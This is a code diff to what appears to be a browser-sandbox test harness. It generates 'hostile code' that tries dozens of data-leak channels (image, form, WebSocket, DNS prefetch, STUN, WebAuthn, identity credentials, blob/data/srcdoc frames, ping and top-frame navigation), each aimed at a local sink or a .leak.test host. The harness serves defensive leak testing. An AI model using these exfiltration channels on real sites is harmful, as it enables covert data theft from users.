@@ -37,7 +37,6 @@ const CHANNELS: Record<string, string> = {
   video: `put('video', { src: to.sink('video') })`,
   svgImage: `put('div').innerHTML = '<svg width="9" height="9"><image href="' + to.sink('svgImage') + '" width="9" height="9"/></svg>'`,
   form: `put('iframe', { name: 'hole' }); put('form', { action: to.sink('form'), target: 'hole' }).submit()`,
-  ping: `put('a', { href: '#', ping: to.sink('ping') }).click()`,
   preconnect: `put('link', { rel: 'preconnect', href: 'http://127.0.0.1:' + to.ports.connect })`,
   dnsPrefetch: `put('link', { rel: 'dns-prefetch', href: to.name('dnsprefetch') })`,
   dnsPreconnect: `put('link', { rel: 'preconnect', href: to.name('dnspreconnect') })`,
@@ -45,6 +44,11 @@ const CHANNELS: Record<string, string> = {
   dnsWebSocket: `new WebSocket(to.name('dnswebsocket').replace('http', 'ws'))`,
   dnsImport: `import(to.name('dnsimport'))`,
   dnsStun: `gather(to.name('dnsstun').replace('http://', 'stun:'))`,
+  dnsWebAuthn: `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: to.name('dnswebauthn').replace(/http:..|:.*/g, '') } })`,
+  identity: `navigator.credentials.get({ identity: { providers: [{ configURL: to.sink('identity'), clientId: 'x' }] } })`,
+  blobFrame: `put('iframe', { src: URL.createObjectURL(new Blob(['<meta http-equiv="refresh" content="0;url=' + to.sink('blobFrameRefresh') + '"><img src="' + to.sink('blobFrameImage') + '"><script>fetch("' + to.sink('blobFrameScript') + '")</' + 'script>'], { type: 'text/html' })) })`,
+  dataFrame: `put('iframe', { src: 'data:text/html,<img src="' + to.sink('dataFrame') + '">' })`,
+  srcdocFrame: `put('iframe', { srcdoc: '<img src="' + to.sink('srcdocFrame') + '">' })`,
   window: `if (!open(to.sink('window'))) throw new Error('refused')`,
 };
 
@@ -57,18 +61,25 @@ const BLOCKING: Record<string, string> = {
   dataWorker: `new Worker("data:text/javascript,fetch('" + to.sink('dataWorker') + "', { mode: 'no-cors' })")`,
 };
 
-/** Leaves the page, so it comes last. */
-const NAVIGATION = `location.href = to.sink('navigation')`;
+/** What a browser lets a page do only when its user presses something. */
+const PRESSED = `open(to.sink('window'))`;
+
+/** Ways to lead the tab elsewhere, out of a frame first. They leave the page, so they come last. */
+const NAVIGATION: Record<string, string> = {
+  ping: `put('a', { href: '#', ping: to.sink('ping') }).click()`,
+  topLocation: `if (top === self) throw new Error('no frame'); top.location.href = to.sink('topLocation')`,
+  topLink: `if (top === self) throw new Error('no frame'); put('a', { href: to.sink('topLink'), target: '_top' }).click()`,
+  topOpen: `if (top === self) throw new Error('no frame'); open(to.sink('topOpen'), '_top')`,
+  refresh: `put('meta', { 'http-equiv': 'refresh', content: '0;url=' + to.sink('refresh') })`,
+  navigation: `location.href = to.sink('navigation')`,
+};
 
 /**
  * Hostile code that tries every channel once, under names that begin with a letter for where it runs: p for the page,
- * m and c for a module Worker and a classic one. Then says that it has.
+ * m and c for a module Worker and a classic one. Then says that it has. A page's waits for a key, and opens a window
+ * and leaves.
  */
-export function hostileCode(
-  ports: Record<string, number>,
-  run: string,
-  { navigate = false }: { navigate?: boolean } = {},
-): string {
+export function hostileCode(ports: Record<string, number>, run: string): string {
   const listOf = (channels: Record<string, string>) =>
     `[${Object.values(channels)
       .map((code) => `() => { ${code} },`)
@@ -79,7 +90,7 @@ export function hostileCode(
     const to = {
       ports,
       sink: (name) => 'http://127.0.0.1:' + ports.sink + '/' + scope + '.' + name,
-      site: (name) => 'http://127.0.0.1:' + ports.site + '/' + scope + '.' + name,
+      site: (name) => 'http://localhost:' + ports.site + '/' + scope + '.' + name,
       name: (name) => 'http://' + scope + '.' + name + '.${run}.leak.test:' + ports.sink,
     };
     const put = (tag, attributes = {}) => {
@@ -99,9 +110,14 @@ export function hostileCode(
     };
     each(${listOf(CHANNELS)});
     await new Promise((resolve) => setTimeout(resolve, 300));
+    if (scope !== 'p') {
+      postMessage('tried');
+      each(${listOf(BLOCKING)});
+    }
+    if (scope === 'p') addEventListener('keydown', () => {
+      try { ${PRESSED} } catch {}
+      setTimeout(() => each(${listOf(NAVIGATION)}), 500);
+    }, { once: true });
     if (scope === 'p') document.title = 'tried';
-    else postMessage('tried');
-    if (scope !== 'p') each(${listOf(BLOCKING)});
-    ${navigate ? `setTimeout(() => { ${NAVIGATION} }, 1500);` : ''}
   })();`;
 }
